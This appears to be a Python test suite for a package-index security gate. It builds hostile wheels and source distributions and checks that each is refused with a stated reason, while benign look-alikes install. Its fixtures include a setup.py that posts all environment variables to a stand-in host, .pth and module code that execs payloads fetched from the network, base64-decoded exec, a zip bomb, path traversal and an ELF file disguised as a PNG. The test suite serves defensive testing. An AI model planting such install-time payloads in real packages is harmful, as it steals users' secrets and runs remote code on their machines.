"""Files are looked into before anybody has them: hostile ones are refused with the reason, honest ones that use the same calls are installed."""

import dataclasses
import io
import json
import os
import subprocess
import time
import urllib.parse
import zipfile

import clients
import distributions
import gate
import scratch
import web
from case import GateCase

STEALS = (
    "import json, os, urllib.request\nfrom setuptools import setup\n"
    "urllib.request.urlopen('https://collect.example/x', data=json.dumps(dict(os.environ)).encode())\n"
    "setup(name='kaas', version='1.0', py_modules=[])\n"
)
ASKS = "import os\nfrom setuptools import setup\nname = os.environ.get('KAAS_SUFFIX', '')\nsetup(name='{}', version='1.0', py_modules=[])\n"
FETCHES = b"import urllib.request\nexec(urllib.request.urlopen('https://files.example/stage2').read())\n"
ENCODED = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
READS = b"import base64\n\n\ndef icon():\n    return base64.b64decode('cHJpbnQoMSk=')\n"
BOOT = b"import os, urllib.request; exec(urllib.request.urlopen('https://files.example/p').read())\n"
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(200)
PICTURE = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(17) + b"\0\0\0\0IEND\xaeB`\x82"


def changed(distribution, change):
    """The same file name with other bytes."""
    return dataclasses.replace(distribution, content=change(distribution.content))


def rezipped(distribution, change):
    """With its members, as a list of name and bytes, changed, and RECORD left as it was."""
    with zipfile.ZipFile(io.BytesIO(distribution.content)) as archive:
        members = [(name, archive.read(name)) for name in archive.namelist()]
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name, data in change(members):
            archive.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data)
    return dataclasses.replace(distribution, content=content.getvalue())


class Hostile(GateCase):
    """Each project has one release."""

    policy = (
        'extends = "default"\n[rules.wheels-only]\naction = "off"\n'
        "[[rule]]\nid = \"new-powers\"\nwhen = \"delta.exists(d, d.startsWith('a new capability') && d.contains('network'))\"\n"
        'action = "hold"\nmessage = "{filename} can do what the release before could not"\n'
    )
    #: project: the rule that refuses it, words of the reason
    REFUSED = {
        "staart-kaas": ("archive-unsafe", "behind the archive's end"),
        "valse-kaas": ("archive-unsafe", "digest is another"),
        "extra-kaas": ("archive-unsafe", "RECORD does not list"),
        "uitbreek-kaas": ("archive-unsafe", "outside its folder"),
        "dubbele-kaas": ("archive-unsafe", "same name"),
        "naam-kaas": ("archive-unsafe", "not of the wheel's name"),
        "bom-kaas": ("archive-unsafe", "bomb"),
        "haal-kaas": ("install-code", "came from the network"),
        "pak-kaas": ("install-code", "decoded"),
        "start-kaas": ("install-code", "boot.pth"),
        "plaat-kaas": ("install-code", "picture.png"),
        "ls-kaas": ("install-code", "ls"),
        "steel-kaas": ("install-code", "environment"),
    }
    #: the same calls in honest use
    TWINS = ("eerlijk-haal", "eerlijk-pak", "eerlijk-start", "eerlijk-plaat", "eerlijk-ls", "eerlijk-steel")

    @classmethod
    def fill(cls, index):
        def wheel(project, version="1.0", **files):
            return distributions.wheel(project, version, files={name.replace("__", "/"): data for name, data in files.items()})

        def plus(project, path, data):
            return distributions.wheel(project, "1.0", files={path: data})

        cls.files = {
            "staart-kaas": changed(wheel("staart-kaas"), lambda b: b + b"more"),
            "valse-kaas": rezipped(wheel("valse-kaas"), lambda m: [(n, d + b"#" if n.endswith("__init__.py") else d) for n, d in m]),
            "extra-kaas": rezipped(wheel("extra-kaas"), lambda m: [*m, ("extra.py", b"x = 1\n")]),
            "uitbreek-kaas": plus("uitbreek-kaas", "../../evil.py", b"x = 1\n"),
            "dubbele-kaas": rezipped(wheel("dubbele-kaas"), lambda m: [*m, m[0]]),
            "naam-kaas": dataclasses.replace(wheel("andere-kaas"), project="naam-kaas", filename="naam_kaas-1.0-py3-none-any.whl"),
            "haal-kaas": plus("haal-kaas", "haal_kaas/core.py", FETCHES),
            "pak-kaas": plus("pak-kaas", "pak_kaas/core.py", ENCODED),
            "start-kaas": plus("start-kaas", "boot.pth", BOOT),
            "plaat-kaas": plus("plaat-kaas", "plaat_kaas/picture.png", ELF),
            "ls-kaas": plus("ls-kaas", "ls_kaas-1.0.dist-info/entry_points.txt", b"[console_scripts]\nls = ls_kaas:main\n"),
            "steel-kaas": distributions.sdist("steel-kaas", "1.0", STEALS),
            "eerlijk-haal": plus("eerlijk-haal", "eerlijk_haal/core.py", b"import urllib.request\n\n\ndef get(url):\n    return urllib.request.urlopen(url).read()\n"),
            "eerlijk-pak": plus("eerlijk-pak", "eerlijk_pak/core.py", READS),
            "eerlijk-start": plus("eerlijk-start", "eerlijk.pth", b"eerlijk_start/vendored\n"),
            "eerlijk-plaat": plus("eerlijk-plaat", "eerlijk_plaat/picture.png", PICTURE),
            "eerlijk-ls": plus("eerlijk-ls", "eerlijk_ls-1.0.dist-info/entry_points.txt", b"[console_scripts]\neerlijk-ls = eerlijk_ls:main\n"),
            "eerlijk-steel": distributions.sdist("eerlijk-steel", "1.0", ASKS.format("eerlijk-steel")),
        }
        bomb = io.BytesIO()
        with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("bom_kaas/zeros.bin", bytes(60 << 20))
        cls.files["bom-kaas"] = dataclasses.replace(wheel("bom-kaas"), content=bomb.getvalue())
        for file in cls.files.values():
            index.add(file)
        quiet = {"groei_kaas/core.py": b"def add(a, b):\n    return a + b\n"}
        index.add(distributions.wheel("groei-kaas", "1.0", files=quiet))
        index.add(distributions.wheel("groei-kaas", "1.1", files={"groei_kaas/core.py": b"import socket\n\n\ndef call():\n    return socket.create_connection(('service.example', 80))\n"}))
        index.add(distributions.wheel("lijst-kaas", "1.0"))
        index.add(distributions.wheel("lijst-kaas", "1.1"))

    def install(self, *requirements):
        return clients.pip("newest", self.gate.simple, requirements, "--no-deps")

    def url(self, project):
        """Of the one file of a project."""
        page = self.gate.simple + f"{project}/"
        return urllib.parse.urljoin(page, web.get(page, web.JSON).json()["files"][0]["url"])

    def test_hostile_files_are_refused_and_say_why(self):
        for project, (rule, words) in self.REFUSED.items():
            with self.subTest(project=project):
                outcome = clients.pip_download(self.gate.simple, scratch.folder("download"), "--no-deps", f"{project}==1.0")
                self.assertNotEqual(outcome.code, 0, outcome.output)
                self.assertIn(f"Blocked by Waag: {rule}", outcome.output)
                self.assertIn("/why/", outcome.output)
                answer = web.get(self.url(project))
                self.assertEqual(answer.status, 403, answer.text)
                self.assertIn(words, json.dumps(web.get(answer.json()["type"], Accept="application/json").json()))

    def test_inspect_tells_what_the_gate_found(self):
        self.install("haal-kaas==1.0")
        asked = subprocess.run(
            [gate.PROGRAM, "inspect", "haal-kaas==1.0", "--format", "json"],
            env={**scratch.environment(), "WAAG_URL": self.gate.url},
            capture_output=True,
            text=True,
            timeout=120,
        )
        self.assertEqual(asked.returncode, 1, asked.stderr)
        report = json.loads(asked.stdout)
        self.assertEqual(report["verdict"], "hold")
        self.assertIn("install-code", [reason["rule"] for reason in report["reasons"]])
        found = next(f for f in report["findings"] if f["rule"] == "code-remote-execution")
        self.assertEqual((found["file"], found["line"]), ("haal_kaas/core.py", 2))
        self.assertIn("exec(", found["evidence"])
        self.assertIn("network", report["capabilities"])

    def test_twins_are_installed(self):
        wheels = [project for project in self.TWINS if project != "eerlijk-steel"]
        outcome = self.install(*(f"{project}==1.0" for project in wheels))
        self.assertEqual(outcome.code, 0, outcome.output)
        outcome = clients.pip_download(self.gate.simple, scratch.folder("download"), "--no-deps", "--no-build-isolation", "eerlijk-steel==1.0")
        self.assertNotIn("Blocked by Waag", outcome.output)

    def test_a_release_with_new_powers_is_held(self):
        self.assertEqual(self.install("groei-kaas==1.0").code, 0)
        outcome = self.install("groei-kaas==1.1")
        self.assertNotEqual(outcome.code, 0, outcome.output)
        self.assertIn("new-powers", outcome.output)

    def test_a_file_that_is_listed_while_the_gate_runs_is_refused(self):
        self.assertEqual(self.install("lijst-kaas==1.0").code, 0)
        self.assertEqual(self.install("lijst-kaas==1.1").code, 0)
        one = next(iter(self.index.projects["lijst-kaas"].values()))["hashes"]["sha256"]
        for listed, version in ((f'sha256 = ["{one}"]', "1.0"), ('releases = ["lijst-kaas==1.1"]', "1.1")):
            self.gate.policy.write_text(self.policy + f"[rules.known-malicious]\n{listed}\n")
            begun = time.monotonic()
            outcome = self.install(f"lijst-kaas=={version}")
            while outcome.code == 0 and time.monotonic() - begun < 30:
                outcome = self.install(f"lijst-kaas=={version}")
            self.assertNotEqual(outcome.code, 0, outcome.output)
            self.assertIn("known-malicious", outcome.output)
        self.gate.policy.write_text(self.policy)


class Files(GateCase):
    """`waag inspect` of files that lie here: several at once, folders, every format."""

    @classmethod
    def setUpClass(cls):
        pass

    def test_a_folder_of_files(self):
        folder = scratch.folder("files")
        for project, files in (("goed", {}), ("fout", {"fout/core.py": FETCHES})):
            made = distributions.wheel(project, "1.0", files=files)
            (folder / made.filename).write_bytes(made.content)
        asked = gate.waag("inspect", "--offline", "--format", "json", folder)
        self.assertEqual(asked.returncode, 1, asked.stderr)
        verdicts = {report["project"]: report["verdict"] for report in map(json.loads, asked.stdout.splitlines())}
        self.assertEqual(verdicts, {"goed": "allow", "fout": "hold"})
        runs = json.loads(gate.waag("inspect", "--offline", "--format", "sarif", folder).stdout)["runs"]
        self.assertIn("code-remote-execution", [result["ruleId"] for result in runs[0]["results"]])
        self.assertIn("2 distributions: 1 allow, 1 hold", gate.waag("inspect", "--offline", folder).stdout)
        self.assertEqual(gate.waag("inspect", "--offline", os.fspath(scratch.folder("empty"))).returncode, 3)
